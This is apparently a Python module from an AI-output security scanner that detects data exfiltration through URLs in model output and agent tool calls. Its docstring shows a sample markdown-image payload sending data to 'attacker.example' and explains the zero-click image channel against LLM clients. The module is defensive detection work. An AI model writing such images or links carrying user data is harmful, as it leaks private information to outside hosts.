"""Data leaving through URLs the model writes or the agent calls (category ``exfiltration``).

The classic LLM exfiltration channel is a markdown image the client renders automatically:
``![x](https://attacker.example/p?d=<data>)`` — no click needed (ATLAS AML.T0077). Links need a click,
long encoded query strings carry bulk data, and any host outside the configured allow-list is worth
knowing about in outputs and tool calls. Hyperscan finds a short anchor; a small anchored Python
regex (``Pattern.extend``) takes the rest of the URL, so a long URL costs one match, not one per char.
"""

from __future__ import annotations

import re
from urllib.parse import parse_qsl, unquote, urlsplit

from detectors import checks, masking
from detectors.spec import Detector, Pattern
from schemas.finding import Category, Severity

URL_TAIL = re.compile(r"[^\s<>\"'`)\]]{0,4096}")  # bounded: a URL-shaped blob costs O(4 KB), not O(field)
TAGS = ("owasp-llm:LLM02", "owasp-llm:LLM05")
PLACEMENT_TAGS = {
    "output": ("atlas:AML.T0077",),
    "tool_args": ("atlas:AML.T0086", "owasp-asi:ASI02"),
    "indirect": ("atlas:AML.T0051.001",),
}
PLACEMENTS = {"output": 1.0, "tool_args": 1.0, "indirect": 0.7, "direct": 0.3}
_LONG_SEGMENT = re.compile(r"[^/]{32,}")
_ENCODED = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/_-=%")


def _url_span(text: str, start: int, end: int) -> tuple[int, int]:
    """The URL inside a markdown/HTML match (from ``http``), or the whole match."""
    idx = text.find("http", start, end)
    return (idx if idx != -1 else start), end


def _parts(url: str) -> tuple[str | None, list[str]]:
    """Host and the data-carrying pieces of a URL: query values, fragment, long path segments."""
    try:
        split = urlsplit(url)
        host = split.hostname
    except ValueError:
        return None, []
    pieces = [v for _, v in parse_qsl(split.query, keep_blank_values=False)]
    if not pieces and split.query:
        pieces.append(unquote(split.query))
    if split.fragment:
        pieces.append(unquote(split.fragment))
    pieces.extend(unquote(seg) for seg in _LONG_SEGMENT.findall(split.path))
    return host, pieces


def _encoded_payload(piece: str) -> bool:
    """A long, high-entropy run of base64/hex characters that decodes to something."""
    if len(piece) < 48 or any(ch not in _ENCODED for ch in piece):
        return False
    return checks.shannon_entropy(piece) >= 3.5 and checks.decoded_bytes(piece) is not None


def _rendered(text: str, start: int, end: int, config) -> float | None:
    """Image to a non-allow-listed host: strong with data in the URL, weak without."""
    us, ue = _url_span(text, start, end)
    host, pieces = _parts(text[us:ue])
    if host is None or config.host_allowed(host):
        return None
    longest = max((len(p) for p in pieces), default=0)
    if longest >= 24 or any(_encoded_payload(p) for p in pieces):
        return 1.0
    if longest >= 6:
        return 0.75 if config.url_allowlist else 0.5  # without an allow-list every host is "external"
    return 0.35


def _encoded(text: str, start: int, end: int, config) -> float | None:
    host, pieces = _parts(text[start:end])
    if host is None or config.host_allowed(host):
        return None
    return 1.0 if any(_encoded_payload(p) for p in pieces) else None


def _unlisted(text: str, start: int, end: int, config) -> float | None:
    if not config.url_allowlist:
        return None  # no allow-list configured: every host would be "unlisted"
    host, _ = _parts(text[start:end])
    return None if host is None or config.host_allowed(host) else 1.0


def _exfil(id: str, title: str, description: str, patterns: tuple[Pattern, ...], **kw) -> Detector:
    return Detector(
        id=id, category=Category.exfiltration, title=title, description=description, patterns=patterns,
        tags=TAGS, placement_tags=PLACEMENT_TAGS, placements=kw.pop("placements", PLACEMENTS),
        mask=masking.mask_url, **kw,
    )


MARKDOWN_IMAGE = _exfil(
    "exfil.markdown_image", "Auto-loading image to an external host",
    "Markdown or HTML images pointing outside the allow-list; with data in the URL this is the zero-click "
    "exfiltration channel of rendered LLM output.",
    (
        Pattern("markdown", r"!\[[^\]\n]*\]\(\s*<?https?://", 0.85, caseless=True, extend=URL_TAIL),
        Pattern("html", r"<img\b[^>]*\bsrc\s*=\s*[\"']?https?://", 0.85, caseless=True, extend=URL_TAIL),
    ),
    validate=_rendered, validation="host outside the allow-list; data carried in the URL",
    locate=_url_span, severity=Severity.high, priority=30,
)

LINK_WITH_DATA = _exfil(
    "exfil.link_with_data", "Link carrying data to an external host",
    "Markdown links whose URL carries query data to a host outside the allow-list (needs a click).",
    (Pattern("markdown", r"\[[^\]\n]*\]\(\s*<?https?://", 0.7, caseless=True, extend=URL_TAIL),),
    validate=_rendered, validation="host outside the allow-list; data carried in the URL",
    locate=_url_span, severity=Severity.medium, priority=10, min_score=0.5,
)

ENCODED_URL = _exfil(
    "exfil.encoded_url", "URL carrying encoded data",
    "A URL whose query, fragment or path carries a long base64/hex payload to a non-allow-listed host.",
    (Pattern("url", r"\bhttps?://", 0.8, caseless=True, extend=URL_TAIL),),
    validate=_encoded, validation="payload of >= 48 base64/hex characters that decodes",
    severity=Severity.high, priority=20,
)

UNLISTED_HOST = _exfil(
    "exfil.unlisted_host", "URL to a host outside the allow-list",
    "Any URL in model output or tool arguments whose host is not allow-listed (only when an allow-list "
    "is configured).",
    (Pattern("url", r"\bhttps?://", 0.6, caseless=True, extend=URL_TAIL),),
    validate=_unlisted, validation="host outside the allow-list",
    placements={"output": 1.0, "tool_args": 1.0},
    severity=Severity.low, priority=5,
)

DETECTORS = (MARKDOWN_IMAGE, LINK_WITH_DATA, ENCODED_URL, UNLISTED_HOST)
